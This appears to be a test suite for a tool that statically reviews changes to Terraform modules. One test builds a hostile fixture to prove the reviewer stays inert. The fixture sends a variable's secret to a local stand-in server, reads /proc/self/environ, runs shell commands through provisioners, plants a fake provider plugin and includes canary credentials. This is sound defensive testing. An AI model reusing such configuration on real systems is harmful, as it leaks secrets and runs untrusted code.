import { createHash } from "node:crypto"
import { existsSync, mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, describe, expect } from "bun:test"
import { Effect } from "effect"
import { reviewModule } from "../../../runner/scan/ModuleReviewer.ts"
import { ModuleScanner } from "../../../runner/scan/ModuleScanner.ts"
import { defaultScanLimits, ScanLimits, type ScanLimitValues } from "../../../runner/scan/ScanLimits.ts"
import { mostReviewItems } from "../../../schema/records/StaticReview.ts"
import { suite } from "../../support/Effect.ts"
import { loopback } from "../../support/LoopbackServer.ts"
import { memoryTree } from "./MemoryTree.ts"

const scanner = suite(ModuleScanner.layer)
afterAll(scanner.dispose)
const folder = mkdtempSync(join(tmpdir(), "svc-review-"))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

type Files = Readonly<Record<string, string | Uint8Array>>

const treeOf = (files: Files) => ({
  tree: memoryTree(files),
  digests: new Map(
    Object.entries(files).map(([path, content]) => [path, createHash("sha256").update(content).digest("hex")])
  )
})

const reviewed = (before: Files, after: Files, path = ".", limits: Partial<ScanLimitValues> = {}) =>
  reviewModule(treeOf(before), treeOf(after), path).pipe(
    Effect.provideService(ScanLimits, { ...defaultScanLimits, ...limits })
  )

/** Formats the entries as `name path:line`, sorted, because the order of a module's files does not matter. */
const placed = (items: ReadonlyArray<{ readonly name: string; readonly path: string; readonly line: number }>) =>
  items.map(({ line, name, path }) => `${name} ${path}:${line}`).toSorted()

const none = { added: [], removed: [], more: 0 }

const numbered = (count: number, text: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => text(index)).join("\n")

describe("Static reviews of a module", () => {
  scanner.live("a static review lists each fact that was added or removed, with its place", () =>
    Effect.gen(function* () {
      const before = {
        "app/main.tf": `resource "terraform_data" "kept" {}
resource "terraform_data" "old" {
  provisioner "local-exec" {
    command = "true"
  }
}
variable "old" {}
output "old" {
  value = 1
}
module "net" {
  source = "../net"
}
`,
        "app/gone.txt": "1",
        "app/.terraform.lock.hcl": "# 1",
        "net/main.tf": 'data "external" "net" {\n  program = ["true"]\n}\n'
      }
      const after = {
        "app/main.tf": `resource "terraform_data" "kept" {}
resource "terraform_data" "new" {
  provisioner "local-exec" {
    command = "true"
  }
  provisioner "local-exec" {
    command = "false"
  }
}
variable "new" {}
output "new" {
  value = 1
}
module "net" {
  source = "../net"
}
module "far" {
  source = "./far"
}
data "aws_ami" "new" {}
ephemeral "random_password" "new" {}
`,
        "app/code.tf": `action "demo_run" "new" {}
check "always" {
  data "http" "asked" {
    url = "https://example.test"
  }
}
removed {
  from = terraform_data.old
  provisioner "local-exec" {
    when    = destroy
    command = "true"
  }
}
`,
        "app/.terraform.lock.hcl": "# 2",
        "app/far/main.tf": "",
        "net/main.tf": 'data "external" "net" {\n  program = ["true"]\n}\nvariable "inner" {}\n'
      }
      const { review } = yield* reviewed(before, after, "app")
      expect(review.files).toEqual({
        added: ["app/code.tf", "app/far/main.tf"],
        changed: ["app/.terraform.lock.hcl", "app/main.tf", "net/main.tf"],
        removed: ["app/gone.txt"],
        more: 0
      })
      const sides = ({ added, removed }: typeof review.resources) => [placed(added), placed(removed)]
      expect(sides(review.resources)).toEqual([
        [
          "action.demo_run.new app/code.tf:1",
          "ephemeral.random_password.new app/main.tf:21",
          "terraform_data.new app/main.tf:2"
        ],
        ["terraform_data.old app/main.tf:2"]
      ])
      expect(sides(review.dataSources)).toEqual([
        ["data.aws_ami.new app/main.tf:20", "data.http.asked app/code.tf:3"],
        []
      ])
      expect(sides(review.moduleCalls)).toEqual([["module.far (./far) app/main.tf:17"], []])
      // Only the inputs and Outputs of the module itself are those of its Capsules.
      expect(sides(review.inputs)).toEqual([["new app/main.tf:10"], ["old app/main.tf:7"]])
      expect(sides(review.outputs)).toEqual([["new app/main.tf:11"], ["old app/main.tf:8"]])
      expect(review.providers.added.map(({ name }) => name).toSorted()).toEqual([
        "hashicorp/aws",
        "hashicorp/demo",
        "hashicorp/http",
        "hashicorp/random"
      ])
      const added = [
        "action.demo_run.new app/code.tf:1",
        "data.http.asked app/code.tf:3",
        "removed terraform_data.old provisioner local-exec app/code.tf:9",
        "terraform_data.new provisioner local-exec app/main.tf:3",
        // Each command of a resource counts.
        "terraform_data.new provisioner local-exec app/main.tf:6"
      ]
      expect(sides(review.runsCode)).toEqual([added, ["terraform_data.old provisioner local-exec app/main.tf:3"]])
      // What ran before the change runs still.
      expect(placed(review.runsCode.present)).toEqual(["data.external.net net/main.tf:1", ...added].toSorted())
      expect(review.lockFile).toBe("changed")
      expect(review.unread).toEqual([])
    })
  )

  scanner.live("a static review lists no changes of other modules, but always the code that runs", () =>
    Effect.gen(function* () {
      const files = { "app/main.tf": 'data "http" "a" {\n  url = "https://example.test"\n}\n' }
      const other = { "other/main.tf": 'resource "terraform_data" "of_another_module" {}\n' }
      const { review } = yield* reviewed(files, { ...files, ...other }, "app")
      expect(review).toMatchObject({
        status: "supported",
        files: { added: [], changed: [], removed: [], more: 0 },
        resources: none,
        dataSources: none,
        moduleCalls: none,
        providers: none,
        inputs: none,
        outputs: none,
        runsCode: { ...none, present: [{ name: "data.http.a", path: "app/main.tf", line: 1 }] },
        lockFile: "absent",
        unread: [],
        findings: []
      })
    })
  )

  scanner.live("a static review contacts nobody, starts nothing and reads only configuration files", () =>
    Effect.gen(function* () {
      const canary = "canary-of-the-environment"
      process.env["TF_VAR_key"] = canary
      const asked: Array<string> = []
      const origin = yield* loopback((request, response) => {
        asked.push(request.url ?? "")
        response.end("{}")
      })
      const witness = join(folder, "witness")
      const touching = (name: string) => `"touch ${witness}-${name}"`
      const host = new URL(origin).host
      const hostile = {
        "main.tf": `terraform {
  required_providers {
    evil = { source = "${host}/acme/evil", version = "1.0.0" }
  }
  backend "http" {
    address = "${origin}/state"
  }
}
variable "key" {}
provider "evil" {
  key = var.key
}
data "terraform_remote_state" "other" {
  backend = "http"
  config  = { address = "${origin}/remote" }
}
data "external" "program" {
  program = ["sh", "-c", ${touching("external")}]
}
data "http" "call" {
  url = "${origin}/call?key=\${var.key}"
}
resource "terraform_data" "run" {
  input = [file("/proc/self/environ"), file("${witness}"), var.key]
  provisioner "local-exec" {
    command = ${touching("provisioner")}
  }
}
module "far" {
  source = "${origin}/module.zip"
}
`,
        "terraform.tfvars": `key = "canary-of-the-values"`,
        "terraform.tfstate": '{"canary": "canary-of-the-state"}',
        ".terraformrc": `credentials "${host}" {\n  token = "canary-of-the-credentials"\n}\n`,
        ".terraform/terraform.tfstate": "canary-of-the-backend",
        ".terraform/providers/registry.opentofu.org/acme/evil/1.0.0/linux_amd64/terraform-provider-evil": `#!/bin/sh\n${touching("plugin")}\n`,
        "run.sh": `#!/bin/sh\n${touching("script")}\n`
      }
      const head = treeOf(hostile)
      const { obstacle, review } = yield* reviewModule(treeOf({}), head, ".")
      delete process.env["TF_VAR_key"]
      expect(placed(review.runsCode.added)).toEqual([
        "data.external.program main.tf:17",
        "data.http.call main.tf:20",
        // The tool itself contains this data source, and it sends a request to an address that the commit chooses.
        "data.terraform_remote_state.other main.tf:13",
        "terraform_data.run provisioner local-exec main.tf:25"
      ])
      expect([...head.tree.reads.keys()]).toEqual(["main.tf"])
      expect(asked).toEqual([])
      for (const name of ["external", "provisioner", "plugin", "script"]) {
        expect([name, existsSync(`${witness}-${name}`)]).toEqual([name, false])
      }
      const text = JSON.stringify(review)
      expect(["canary-of", "root:", "PATH="].filter((secret) => text.includes(secret))).toEqual([])
      expect(obstacle).toBeDefined()
    })
  )

  scanner.live("a static review also reads the local modules of a module that svc cannot install", () =>
    Effect.gen(function* () {
      const calls = 'module "net" {\n  source = "../net"\n}\nresource "aws_vpc" "a" {}\n'
      const far = 'module "far" {\n  source = "git::https://git.example.test/far.git"\n}\n'
      const net = {
        "net/main.tf": 'module "inner" {\n  source = "./inner"\n}\n',
        "net/inner/main.tf": 'data "external" "net" {\n  program = ["true"]\n}\n'
      }
      const { review } = yield* reviewed(
        { ...net, "app/main.tf": calls },
        { ...net, "app/main.tf": calls + far },
        "app"
      )
      expect(review.status).toBe("unsupported")
      expect(placed(review.moduleCalls.added)).toEqual([
        "module.far (git::https://git.example.test/far.git) app/main.tf:5"
      ])
      expect(placed(review.runsCode.present)).toEqual(["data.external.net net/inner/main.tf:1"])
      // What svc cannot find out has not been removed.
      expect([review.dataSources, review.runsCode.removed, review.providers]).toEqual([none, [], none])
    })
  )

  scanner.live("a static review names the reason why the tool cannot validate a module", () =>
    Effect.gen(function* () {
      const plain = { "main.tf": 'resource "terraform_data" "a" {}\n' }
      const obstacleOf = (files: Files, path?: string) =>
        Effect.map(reviewed(plain, files, path), ({ obstacle }) => obstacle)
      expect(yield* obstacleOf(plain)).toBeUndefined()
      expect(yield* obstacleOf({ "main.tf": 'resource "aws_vpc" "a" {}\n' })).toBe(
        "It needs hashicorp/aws, and a static review starts no provider."
      )
      const calling = { "main.tf": 'module "a" {\n  source = "./a"\n}\n', "a/main.tf": "" }
      expect(yield* obstacleOf(calling)).toBe("It calls modules, which the tool would have to install first.")
      expect(yield* obstacleOf({ "main.tf": "resource {" })).toContain("svc cannot install the module")
      expect(yield* obstacleOf(plain, "missing")).toBe("The head has no such module.")
    })
  )

  scanner.live("a static review lists the configuration files that it cannot read, and reviews the others", () =>
    Effect.gen(function* () {
      const fine = 'resource "terraform_data" "fine" {\n  provisioner "local-exec" {\n    command = "true"\n  }\n}\n'
      const deep = `locals {\n  deep = ${"[".repeat(40)}${"]".repeat(40)}\n}\n`
      const { review } = yield* reviewed(
        {},
        {
          "broken.tf": 'resource "terraform_data" "broken" {\n',
          "deep.tf": deep,
          "fine.tf": fine,
          "generated.tf.json": '{"resource": {"terraform_data": {"hidden": {}}}}',
          "large.tf": `# ${"x".repeat(2000)}\n`,
          "text.tf": new Uint8Array([0xff, 0xfe, 0x00])
        },
        ".",
        { fileBytes: 1000, nesting: 20 }
      )
      expect(review.unread.toSorted()).toEqual(["broken.tf", "deep.tf", "generated.tf.json", "large.tf", "text.tf"])
      expect(placed(review.resources.added)).toEqual(["terraform_data.fine fine.tf:1"])
      expect(placed(review.runsCode.present)).toEqual(["terraform_data.fine provisioner local-exec fine.tf:2"])
      expect(review.status).toBe("unsupported")
      expect(review.findings.length).toBeGreaterThan(0)
      expect(review.findings.every(({ severity }) => severity === "error")).toBe(true)
    })
  )

  scanner.live("a static review limits each list, and counts what it omits", () =>
    Effect.gen(function* () {
      const count = mostReviewItems + 7
      const running = (index: number) =>
        `resource "terraform_data" "r${index}" {\n  provisioner "local-exec" {\n    command = "true"\n  }\n}`
      const files = {
        "main.tf": numbered(count, running),
        ...Object.fromEntries(Array.from({ length: count }, (_, index) => [`files/f${index}.txt`, "1"])),
        "read.tf": 'locals {\n  all = fileset("files", "*")\n}\n'
      }
      const { review } = yield* reviewed({}, files)
      expect([review.resources.added.length, review.resources.more]).toEqual([mostReviewItems, 7])
      expect([review.files.added.length, review.files.more]).toEqual([mostReviewItems, 9])
      // 7 are omitted from the list of what was added, and 7 from the list of what runs.
      expect([review.runsCode.added.length, review.runsCode.present.length, review.runsCode.more]).toEqual([
        mostReviewItems,
        mostReviewItems,
        14
      ])
      // Code that runs is never omitted without a number, even if nothing was added.
      const again = yield* reviewed(files, { ...files, "more.tf": "" })
      expect(again.review.runsCode).toMatchObject({ added: [], removed: [], more: 7 })
    })
  )

  scanner.live("a static review fails if the module exceeds the limits of a scan", () =>
    Effect.gen(function* () {
      const files = { "a.tf": "", "b.tf": "", "c.tf": "" }
      const failure = yield* Effect.flip(reviewed({}, files, ".", { files: 2 }))
      expect(failure).toMatchObject({ _tag: "ScanLimitExceeded", limit: "files" })
    })
  )

  scanner.live("a static review tells whether a module or its lock file is new, removed or unchanged", () =>
    Effect.gen(function* () {
      const plain = { "a/main.tf": 'variable "kept" {}\n' }
      const locked = { ...plain, "a/.terraform.lock.hcl": "# 1" }
      const lockOf = (before: Files, after: Files) =>
        Effect.map(reviewed(before, after, "a"), ({ review }) => review.lockFile)
      expect([
        yield* lockOf(plain, plain),
        yield* lockOf(locked, locked),
        yield* lockOf(plain, locked),
        yield* lockOf(locked, { ...plain, "a/.terraform.lock.hcl": "# 2" }),
        yield* lockOf(locked, plain)
      ]).toEqual(["absent", "unchanged", "added", "changed", "removed"])
      const gone = (yield* reviewed(plain, { "b/main.tf": "" }, "a")).review
      expect([gone.status, gone.files.removed, placed(gone.inputs.removed)]).toEqual([
        "absent",
        ["a/main.tf"],
        ["kept a/main.tf:1"]
      ])
      const made = (yield* reviewed({ "b/main.tf": "" }, plain, "a")).review
      expect([made.status, made.files.added, placed(made.inputs.added)]).toEqual([
        "supported",
        ["a/main.tf"],
        ["kept a/main.tf:1"]
      ])
    })
  )
})
